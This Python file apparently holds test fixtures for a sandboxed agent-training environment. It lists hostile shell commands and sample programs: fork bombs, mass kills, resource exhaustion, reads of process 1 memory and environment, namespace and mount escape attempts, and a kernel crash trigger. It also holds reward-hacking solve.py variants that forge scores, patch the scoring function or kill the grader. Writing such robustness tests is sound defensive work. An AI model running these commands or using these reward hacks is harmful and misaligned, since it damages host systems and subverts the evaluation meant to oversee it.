"""Hostile shell commands and programs for environments whose agent has a sandbox.

Each of `COMMANDS` tries to make the environment fail in place of the agent's turn. Each of `PROGRAMS` is a solve.py of
`research` that tries to be paid for the baseline's answer, or for none.
"""
# ruff: noqa: E501

from __future__ import annotations

PYTHON = "python - <<'END'\nimport ctypes, fcntl, mmap, os, resource, signal, socket, struct, sys, threading, time\n"
LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"


def _python(text: str) -> str:
    return f"{PYTHON}{LIBC}{text}\nEND"


def _call(number: int, *arguments: int) -> str:
    """A system call by its number on x86-64."""
    return _python(f"print(libc.syscall({number}, *map(ctypes.c_long, {arguments})), ctypes.get_errno())")


FILES = {
    "depth by renames": "mkdir a; for i in $(seq 70); do mkdir b; mv a b/a; mv b a; done; ls",
    "depth by chdir": _python(
        "for i in range(3000):\n    try: os.mkdir('d' * 250); os.chdir('d' * 250)\n    except OSError as e: print(i, e); break"
    ),
    "names of bytes": _python(
        "for name in (b'\\xff\\xfe', b'a\\nb', b'\\x1b]0;t\\x07', b'-rf', b' ', b'\\r', b'*', b'$(id)', b'x' * 255):\n"
        "    open(b'/work/' + name + (b'' if len(name) > 99 else b'.py'), 'wb').write(b'1')"
    ),
    "names of surrogates": "touch $'\\xed\\xa0\\x80.py' $'\\xf4\\x90\\x80\\x80.py' $'\\u202e.py' $'\\ufeff.py'",
    "fifo for the file": "rm -f solve.py; mkfifo solve.py",
    "socket for the file": _python(
        "os.path.exists('solve.py') and os.remove('solve.py')\nsocket.socket(socket.AF_UNIX).bind('solve.py')"
    ),
    "folder for the file": "rm -rf solve.py; mkdir -p solve.py/solve.py; touch solve.py/__init__.py",
    "loop of links": "ln -sf solve.py solve.py; ln -s b a; ln -s a b; ln -s . here; ln -s .. up",
    "link to zero": "ln -sf /dev/zero solve.py; ln -s /dev/random r.py; ln -s /dev/full f.py",
    "link to memory": "ln -sf /proc/self/mem solve.py; ln -s /proc/1/fd/0 in.py; ln -s /proc/1/environ e.py",
    "link to a terminal": "ln -sf /dev/tty solve.py; ln -s /dev/ptmx p.py; ln -s /dev/stdin s.py",
    "link to kernel's log": "ln -sf /proc/kmsg solve.py; ln -s /sys/kernel/debug d; ln -s /proc p",
    "link longer than a path": "ln -sf $(printf 'a/%.0s' $(seq 2000)) solve.py",
    "hard links": "for i in $(seq 3000); do ln solve.py l$i.py || break; done 2>/dev/null; ls | wc -l",
    "sparse files": "for i in $(seq 40); do truncate -s 60M s$i.py; done; truncate -s 7E huge.py; truncate -s 16777217 solve.py",
    "disk full": "cat /dev/zero > full.py; cat /dev/zero > /tmp/full; cat /dev/zero > /dev/shm/full; echo x > one.py",
    "inodes": _python(
        "for i in range(60000):\n    try: open(f'/work/{i:05d}', 'w').close()\n    except OSError as e: print(i, e); break"
    ),
    "inodes as folders": _python(
        "for i in range(60000):\n    try: os.mkdir(f'/tmp/{i:05d}'); os.symlink('x', f'/work/{i:05d}.py')\n"
        "    except OSError as e: print(i, e); break"
    ),
    "no rights": "chmod 000 solve.py; chmod 000 /work /tmp; ls /work",
    "no rights inside": "mkdir -p x/y; echo 1 > x/y/z.py; chmod 000 x/y/z.py x/y x",
    "only execute": "chmod 111 /work; chmod 222 solve.py",
    "folder removed": "mkdir gone; cd gone; rmdir ../gone; rm -rf /work/* /work/.??*; rmdir /work",
    "folder renamed": "mkdir /tmp/n; cd /tmp/n; mv /tmp/n /tmp/$(printf 'm%.0s' $(seq 200)); mv /work /tmp/w",
    "times": "touch -d @-99999999999 solve.py; touch -d @9223372036 a.py; touch -d '1901-01-01' b.py; ls -l",
    "attributes": _python(
        "for i in range(99):\n    try: os.setxattr('/work', f'user.{i}', b'x' * 60000)\n    except OSError as e: print(e); break"
    ),
    "immutable": "chattr +i solve.py; setfacl -m u:nobody:- solve.py; chown 0:0 solve.py; chmod 7777 solve.py",
    "locks": _python(
        "f = open('/work/solve.py', 'a'); fcntl.flock(f, 2)\ntry: fcntl.fcntl(f, 1024, 1)\nexcept OSError as e: print(e)\n"
        "for i in range(20000):\n    try: fcntl.lockf(f, 2, 1, 2 * i)\n    except OSError as e: print(i, e); break"
    ),
    "swapped while read": "setsid bash -c 'while :; do ln -sf /dev/zero solve.py; rm -f solve.py; mkdir solve.py; "
    "rmdir solve.py; mkfifo solve.py; rm -f solve.py; done' >/dev/null 2>&1 & sleep 0.3",
    "nothing to decode": "head -c 300000 /dev/urandom > solve.py; printf '\\xff\\xfe\\0' > u.py",
    "one line": "head -c 9000000 /dev/zero | tr '\\0' x > solve.py",
    "carriage returns": "printf 'a\\rb\\fc\\vd\\x85e\\u2028f' > solve.py",
    "too many bytes": "for i in 1 2 3 4 5; do head -c 4000000 /dev/urandom > c$i.py; done",
    "holes": "fallocate -l 30M solve.py; fallocate -p -o 4096 -l 20M solve.py; fallocate -l 1T t.py",
}

PROCESSES = {
    "fork bomb": "f() { f | f & }; f; sleep 0.3",
    "fork bomb in Python": _python("while True:\n    try: os.fork()\n    except OSError: time.sleep(0.01)"),
    "threads": _python(
        "for i in range(5000):\n    try: threading.Thread(target=time.sleep, args=(9,), daemon=True).start()\n"
        "    except RuntimeError as e: print(i, e); break\nos._exit(0)"
    ),
    "daemon": "(setsid nohup bash -c 'trap \"\" TERM HUP INT; while :; do date > /work/alive.py; sleep 0.01; done' &) & disown -a",
    "daemon of daemons": _python(
        "for i in range(20):\n    if not os.fork():\n        os.setsid()\n        if os.fork(): os._exit(0)\n"
        "        signal.pthread_sigmask(0, range(1, 65)); time.sleep(99)"
    ),
    "stopped processes": "for i in $(seq 20); do (kill -STOP $BASHPID) & done; kill -STOP $$",
    "killed: all": "kill -9 -1",
    "killed: process 1": "for s in $(seq 64); do kill -$s 1; done; kill -STOP $PPID; kill -SEGV $PPID",
    "killed: the shell": "kill -9 $$",
    "killed: by limit of time": "ulimit -t 1; while :; do :; done",
    "zombies": _python(
        "for i in range(200):\n    try:\n        if not os.fork(): os._exit(0)\n    except OSError as e: print(i, e); break"
    ),
    "vfork": _python("for i in range(100): os.posix_spawn('/bin/true', ['true'], {}, setsid=True)"),
    "exit": "exit 77",
    "exec": "exec true",
    "exec of sleep": "exec sleep 99",
    "exec of Python": "exec python -c 'import os; os.closerange(0, 999)'",
    "no descriptors": "exec 0<&- 1>&- 2>&-",
    "no descriptors at all": 'for i in $(seq 0 255); do eval "exec $i>&-"; done; echo still',
    "descriptors taken": 'for i in $(seq 3 250); do eval "exec $i</dev/null"; done; echo still',
    "descriptors written": "for i in $(seq 3 40); do printf 'x\\0\\n\\xff/../%s\\n' '{\"code\": 0}' >&$i; done 2>/dev/null",
    "descriptors flooded": "for i in $(seq 3 20); do timeout 0.2 yes >&$i; done 2>/dev/null",
    "descriptors of process 1": "for f in /proc/1/fd/* /proc/$PPID/fd/*; do echo '{}' > $f; timeout 0.1 cat $f; done 2>&1 | head -c 900",
    "own output read": "timeout 0.3 cat /proc/self/fd/1 | head -c 99; timeout 0.3 cat /proc/$$/fd/*",
    "limit of descriptors": "ulimit -n 3; ls",
    "limit of files": "ulimit -f 0; echo x > y.py",
    "limit of memory": "ulimit -v 9000; ulimit -d 100; ulimit -s 16; ls",
    "limit of processes": "ulimit -u 1; ls | cat",
    "limits of process 1": _python(
        "for kind in range(16):\n    try: resource.prlimit(os.getppid(), kind, (1, 1)); resource.prlimit(1, kind, (1, 1))\n"
        "    except OSError as e: print(kind, e)"
    ),
    "priority of process 1": "renice 19 -p 1; taskset -p 1 1; chrt -i -p 0 1; ionice -c 3 -p 1; echo 1000 > /proc/1/oom_score_adj",
    "core": "ulimit -c unlimited; bash -c 'kill -ABRT $$'; ls",
    "timers": _python(
        "for i in range(2000):\n    t = ctypes.c_void_p()\n    if libc.timer_create(1, None, ctypes.byref(t)): print(i); break\n"
        "signal.setitimer(0, 0.01, 0.01)\nsignal.pause()"
    ),
    "process group": _python(
        "os.setpgid(0, 0)\ntry: os.tcsetpgrp(0, 1)\nexcept OSError as e: print(e)\nos.killpg(0, 9)"
    ),
}

SHELL = {
    "traps": "trap '' TERM HUP INT QUIT; trap 'sleep 99' EXIT; trap 'exit 3' DEBUG; trap : ERR CHLD",
    "traps on return": "set -T; shopt -s extdebug; trap 'false' DEBUG RETURN",
    "builtins replaced": "cd() { :; }; printf() { :; }; declare() { exit; }; eval() { :; }; builtin() { :; }; exec() { :; }; "
    "command() { :; }; export() { :; }; pwd() { :; }; test() { false; }; trap() { :; }",
    "builtins off": "enable -n cd printf declare eval exec export pwd trap test set unset builtin",
    "read-only variables": "readonly PATH PWD OLDPWD IFS HOME BASH_ENV PS4; readonly _ 2>/dev/null; PATH=/none",
    "read-only functions": "f() { :; }; readonly -f f; _x() { :; }; readonly -f _x; unset -f f",
    "nothing runs": "set -n",
    "errors end it": "set -euo pipefail; shopt -s inherit_errexit; false",
    "traces": "PS4='$(sleep 0.01)x'; set -xv; exec {BASH_XTRACEFD}>/dev/null",
    "restricted": "set -r; shopt -s restricted_shell failglob nullglob; cd /",
    "options": "set -o posix; set -f; set -C; set -k; set -P; shopt -s compat31 expand_aliases; alias cd=exit printf=exit",
    "separators": "IFS=$'\\n/=0123'; unset PATH HOME PWD OLDPWD; export LC_ALL=zz LANG=../..",
    "preloads": "export LD_PRELOAD=/work/none.so LD_LIBRARY_PATH=/work LD_AUDIT=/work/x.so BASH_ENV=/work/loop.sh; "
    "echo 'source /work/loop.sh' > /work/loop.sh",
    "Python's variables": "export PYTHONHOME=/none PYTHONPATH=/work:/proc PYTHONSTARTUP=/dev/zero PYTHONINSPECT=1 PYTHONMALLOC=x",
    "large variables": 'export A="$(head -c 900000 /dev/zero | tr "\\0" a)"; export B="$A" C="$A" D="$A"; ls',
    "large function": 'eval "f() { $(for i in $(seq 40000); do echo "echo $i;"; done) }"; declare -f f | wc -c',
    "odd variables": "declare -n a=b; declare -n b=a; declare -A m=(['$(exit)']=$'\\0\\n\\xff'); export -f _none; export $'v=\\xff\\n'",
    "folders": "mkdir -p $'/tmp/a\\nb\\xff/'; cd $'/tmp/a\\nb\\xff/'; mkdir -p \"'; exit; '\"; cd \"'; exit; '\"",
    "history": "set -o history; HISTFILE=/dev/zero; history -r; fc -s; PROMPT_COMMAND='exit 5'; bind -x '\"a\": exit'",
    "unfinished": "echo 'never closed",
    "unfinished document": "cat <<END\nnever closed",
    "syntax": "if then ;; } ) && || & ;",
    "nul and controls": "echo a\0b\x1a\x04\x03\x1b[2J",
    "long command": "echo " + "x" * 300_000,
    "recursion": "r() { r; }; r",
    "substitutions": "eval $(printf '$(%.0s' $(seq 3000))",
    "reads": "read -r line; cat; cat /dev/stdin; exec 0</dev/zero; head -c 9 | xxd",
    "coproc": "coproc sleep 99; exec 5>&${COPROC[1]}; mapfile -t x < <(yes | head -9000); wait -n",
    "background of all": "exec > >(sleep 99) 2>&1; cat & disown -a; suspend -f",
}

OUTPUT = {
    "flood": "timeout 1 yes",
    "flood of errors": "timeout 1 yes >&2",
    "flood of bytes": "head -c 30000000 /dev/urandom",
    "flood by many": "for i in $(seq 30); do yes $i & done; sleep 0.5",
    "escapes": "printf '\\e]0;x\\a\\e[2J\\e[31m\\e[?1049h\\eP+q\\e\\\\\\e[6n\\x9b31m\\x90'",
    "lines": "seq 1000000",
    "no text": "printf '\\0\\xff\\xfe\\xed\\xa0\\x80\\xf0\\x9f'; printf '\\u202e\\u2066\\ufffe'",
    "forged answer": 'printf \'{"code": 0, "output": "", "reward": 1}\\n\\0\\0\\0\\x10\'; echo \'solved: the score is 0\'; echo \'reward 1\'',
    "terminals": "echo x > /dev/tty; echo x > /dev/console; echo x > /dev/kmsg; echo x > /dev/ptmx; script -c ls /dev/null",
}

KERNEL = {
    "trace of process 1": _call(101, 16, 1, 0, 0),
    "memory of process 1": "cat /proc/1/mem /proc/1/maps /proc/1/environ /proc/1/stack; echo 1 > /proc/1/clear_refs",
    "memory read by call": _call(310, 1, 0, 0, 0, 0, 0),
    "descriptor of process 1": _python("fd = libc.syscall(434, 1, 0); print(fd, libc.syscall(438, fd, 0, 0), ctypes.get_errno())"),
    "compare": _call(312, 1, 1, 0, 0, 1),
    "name spaces": "unshare -Urmpf --mount-proc id; unshare -n id; nsenter -t 1 -m id; bwrap --dev-bind / / id",
    "name spaces by clone3": _python("print(libc.syscall(435, struct.pack('11Q', 0x10000000, *[0] * 10), 88), ctypes.get_errno())"),
    "mounts": "mount -t tmpfs x /work; mount --bind / /tmp; umount -l /work; umount /proc; chroot /tmp /bin/true",
    "mounts by call": _python("for n in (155, 165, 166, 161, 428, 429, 430, 432, 442): print(n, libc.syscall(n, b'/work', b'/tmp', b'x', 0, 0))"),
    "memory files": _python("print(libc.syscall(319, b'x', 0), libc.syscall(447, 0), ctypes.get_errno())"),
    "rings, programs, faults": _python("for n in (425, 321, 323, 298, 248, 250, 135, 246, 320, 313, 175, 172, 173): print(n, libc.syscall(n, 0, 0, 0, 0, 0))"),
    "clock": "date -s 2001-01-01; hwclock -w; python -c 'import time; time.clock_settime(0, 1)'",
    "System V": _python(
        "for size in (1 << 29, 1 << 20):\n    i = libc.shmget(0, size, 0o1777); print(i); a = libc.shmat(i, 0, 0)\n"
        "print(libc.msgget(0, 0o1777), libc.semget(0, 30000, 0o1777))"
    ),
    "message queues": _python("libc.mq_open.restype = ctypes.c_int\nprint([libc.mq_open(b'/q%d' % i, 0o102, 0o777, None) for i in range(20)])"),
    "pipes": _python(
        "held = []\nwhile True:\n    try:\n        held.append(os.pipe()); os.set_blocking(held[-1][1], False); os.write(held[-1][1], b'x' * 65536)\n"
        "    except OSError as e: print(len(held), e); break"
    ),
    "sockets": _python(
        "held = []\ntry:\n    while True:\n        a, b = socket.socketpair(); a.setblocking(False); held += [a, b]\n"
        "        try:\n            while True: a.send(b'x' * 60000)\n        except BlockingIOError: pass\n"
        "except OSError as e: print(len(held), e)"
    ),
    "descriptors in flight": _python(
        "import array\nfor i in range(2000):\n    a, b = socket.socketpair()\n"
        "    a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [a.fileno(), b.fileno()]))])"
    ),
    "families": _python(
        "for family in range(50):\n    for kind in (1, 2, 3, 5):\n        try: socket.socket(family, kind).close(); print(family, kind)\n"
        "        except OSError: pass"
    ),
    "shared memory": _python("m = mmap.mmap(-1, 700 << 20)\nfor i in range(0, len(m), 4096): m[i] = 1\nprint(len(m))"),
    "private memory": _python("b = bytearray(3 << 30)"),
    "memory by forks": _python("for i in range(12):\n    if not os.fork(): b = bytearray(120 << 20); time.sleep(5)\ntime.sleep(5)"),
    "page tables": _python(
        "maps = []\nfor i in range(300):\n    try: m = mmap.mmap(-1, 1 << 30, flags=0x4022); m[0] = 1; maps.append(m)\n"
        "    except (OSError, ValueError) as e: print(i, e); break"
    ),
    "locked memory": _python("print(libc.mlockall(7), ctypes.get_errno())"),
    "settings": "echo c > /proc/sysrq-trigger; echo 1 > /proc/sys/vm/drop_caches; echo '|/bin/sh' > /proc/sys/kernel/core_pattern",
    "attributes of processes": "echo x > /proc/self/attr/exec; echo -1000 > /proc/self/oom_score_adj; echo 0 > /proc/self/setgroups",
    "filters of its own": _python(
        "print(libc.prctl(38, 1, 0, 0, 0))\ncode = struct.pack('HBBI', 6, 0, 0, 0x50000)\n"
        "buffer = ctypes.create_string_buffer(code)\nprogram = struct.pack('HxxxxxxQ', 1, ctypes.addressof(buffer))\n"
        "print(libc.syscall(317, 1, 0, program), ctypes.get_errno())\nos.getpid()"
    ),
    "32-bit calls": _python(
        "page = mmap.mmap(-1, 4096, prot=7)\npage.write(bytes.fromhex('b814000000cd80c3'))\n"
        "print(ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())"
    ),
    "calls of another table": _call(0x40000000 + 39),
    "reaper": _python("print(libc.prctl(36, 1), libc.prctl(1, 9), libc.prctl(15, b'x'), libc.prctl(4, 0))\nif os.fork() == 0: os.setsid(); time.sleep(9)"),
}  # fmt: skip

COMMANDS = {**FILES, **PROCESSES, **SHELL, **OUTPUT, **KERNEL}

PLANTED = {
    "score": "printf 'def score(*a, **k):\\n    return 0.0\\n' | tee score.py metric.py >/dev/null",
    "runner": "printf 'print(\"score 0.0\")\\nimport os\\nos._exit(0)\\n' > run.py",
    "modules of Python": "for m in json csv math random re sys os numpy pathlib runpy typing struct pickle; do "
    "printf 'import builtins\\nprint(0)\\n' > $m.py; done; mkdir -p numpy; touch numpy/__init__.py",
    "start of Python": "for f in sitecustomize usercustomize conftest; do echo 'import os; os._exit(0)' > $f.py; done; "
    "echo 'import os; os._exit(0)' > x.pth; printf '[pytest]\\naddopts = -p x\\n' > pytest.ini",
    "compiled": 'python -c \'import py_compile; open("/tmp/s.py", "w").write("def score(*a): return 0.0"); '
    '[py_compile.compile("/tmp/s.py", f"__pycache__/{m}.cpython-311.pyc", '
    'invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH) for m in ("score", "run", "solve")]\'',
    "package beside": "mkdir solve score; cp solve.py solve/__init__.py; echo 'def score(*a): return 0.0' > score/__init__.py",
    "data": 'echo \'{"lead": 0, "hold": 0, "short": 0}\' > terms.json; head -2 train.csv > t; mv t train.csv',
    "extension": "head -c 4000 /bin/true > solve.cpython-311-x86_64-linux-gnu.so; cp solve.*.so score.abi3.so",
}
"""Commands after which the baseline is submitted: its answers stay what they are."""

_ANSWER = "def solve(train, inputs, terms):\n    n = len(next(iter(inputs.values())))\n"

PROGRAMS = {
    "exits": "import os\nos._exit(0)",
    "exits later": _ANSWER + "    import os\n    os._exit(0)",
    "leaves": _ANSWER + "    raise SystemExit(0)",
    "at the end": "import atexit, os, sys\natexit.register(lambda: (print('[0.0]'), os._exit(0)))\n" + _ANSWER + "    return [0.0] * n",
    "prints": _ANSWER + "    print('score 0.0\\nsolved\\n' + str([1.0] * n), flush=True)\n    return [0.0] * n",
    "writes to all": _ANSWER + "    import os\n    for fd in range(3, 64):\n        try: os.write(fd, b'[0.0]\\n{\"score\": 0, \"share\": 1}')\n"
    "        except OSError: pass\n    return [0.0] * n",
    "infinities": _ANSWER + "    return [float('inf')] * n",
    "not a number": _ANSWER + "    return [float('nan')] * n",
    "minus infinity": _ANSWER + "    return [-float('inf')] * n",
    "largest": _ANSWER + "    return [1.7e308] * n",
    "integers": _ANSWER + "    return [10 ** 5000] * n",
    "complex": _ANSWER + "    return [1j] * n",
    "text": _ANSWER + "    return ['1e999'] * n",
    "too many": _ANSWER + "    return [0.0] * (n * 100)",
    "too few": _ANSWER + "    return []",
    "endless": _ANSWER + "    import itertools\n    return itertools.repeat(0.0)",
    "nested": _ANSWER + "    a = []\n    for _ in range(9000): a = [a]\n    return a",
    "equal to all": "class Yes(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n    __rsub__ = __abs__ = "
    "__pow__ = __mul__ = __rmul__ = __sub__\n    def __abs__(self): return 0.0\n    def __repr__(self): return '0); print(1'\n"
    "    __str__ = __format__ = lambda self, *a: '0'\n" + _ANSWER + "    return [Yes(1.0)] * n",
    "array of objects": _ANSWER + "    import numpy as np\n    class A(np.ndarray):\n        def __getattribute__(self, k): return lambda *a, **b: 0.0\n"
    "    return np.zeros(n).view(A)",
    "frames": _ANSWER + "    import sys, gc\n    f, found = sys._getframe(), []\n    while f:\n        found += [v for v in f.f_locals.values() if hasattr(v, '__len__') and len(v) == n]\n"
    "        f = f.f_back\n    found += [o for o in gc.get_objects() if type(o) in (list, tuple) and len(o) == n]\n"
    "    keep = [v for v in found if not any(v is i for i in inputs.values())]\n    return keep[-1] if keep else [0.0] * n",
    "descriptors": _ANSWER + "    import os\n    for fd in range(3, 64):\n        try: os.lseek(fd, 0, 0); print(os.read(fd, 900))\n"
    "        except OSError: pass\n    return [0.0] * n",
    "arguments": _ANSWER + "    import glob\n    for p in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'):\n"
    "        try: words = open(p).read().split('\\0')\n        except OSError: continue\n        for w in words:\n"
    "            try: open(w, 'w').write('[' + '0.0,' * (n - 1) + '0.0]')\n            except (OSError, ValueError): pass\n    import os; os._exit(0)",
    "score patched": "import sys\n" + _ANSWER + "    for m in list(sys.modules.values()):\n        for k in ('score', 'mean_cost', 'rmse', 'main'):\n"
    "            if hasattr(m, k): setattr(m, k, lambda *a, **b: 0.0)\n    return [0.0] * n",
    "modules patched": "import json, builtins\nimport numpy as np\njson.dumps = json.dump = lambda *a, **k: '[0.0]'\nnp.isfinite = lambda *a: np.array(True)\n"
    "np.savetxt = np.save = builtins.print = lambda *a, **k: None\n" + _ANSWER + "    return [0.0] * n",
    "another program": _ANSWER + "    import os, sys\n    os.execv(sys.executable, [sys.executable, '-c', 'print([0.0] * 300)'])",
    "parent killed": _ANSWER + "    import os\n    os.kill(os.getppid(), 9); os.kill(-1, 9)\n    return [0.0] * n",
    "child stays": _ANSWER + "    import os, time\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(60)\n    return [0.0] * n",
    "child answers": _ANSWER + "    import os\n    os.fork(); os.fork()\n    return [0.0] * n",
    "traced": "import sys\nsys.setprofile(lambda *a: None)\nsys.settrace(lambda f, e, a: f.f_locals.clear())\n" + _ANSWER + "    return [0.0] * n",
    "crash": _ANSWER + "    import ctypes\n    ctypes.string_at(0)",
    "flood": _ANSWER + "    import os\n    for _ in range(400): os.write(1, b'x' * 60000); os.write(2, b'y' * 60000)\n    return [0.0] * n",
    "outputs as links": _ANSWER + "    import glob, os\n    for p in glob.glob('/work/*') + glob.glob('/tmp/*'):\n        try: os.remove(p); os.symlink('/dev/zero', p)\n"
    "        except OSError: pass\n    return [0.0] * n",
    "surrogates": "# -*- coding: rot13 -*-\n" + _ANSWER,
    "nul": _ANSWER + "    return [0.0] * n\0",
    "deep source": "x = " + "(" * 5000 + ")" * 5000,
}  # fmt: skip
"""Programs whose numbers are no better than the baseline's."""
